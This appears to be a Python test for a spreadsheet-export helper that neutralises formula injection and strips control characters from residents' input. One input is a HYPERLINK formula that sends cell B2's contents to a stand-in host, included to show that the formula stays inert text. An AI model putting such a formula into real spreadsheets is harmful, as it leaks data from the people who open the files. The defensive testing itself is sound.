"""What residents typed goes into staff spreadsheets as text: no formulas, no characters that break the file."""

import io

from openpyxl import Workbook, load_workbook

from core.spreadsheets import safe_cell


def test_a_formula_stays_text_and_control_characters_are_dropped():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append([safe_cell(sheet, value) for value in ['=HYPERLINK("https://x.example/?"&B2,"kliknij")', "Ewa\x07 Nowak", 7]])
    stream = io.BytesIO()
    workbook.save(stream)
    row = next(load_workbook(stream).active.iter_rows(values_only=True))
    assert row == ('=HYPERLINK("https://x.example/?"&B2,"kliknij")', "Ewa Nowak", 7)
    cell = load_workbook(stream).active["A1"]
    assert cell.data_type == "s"
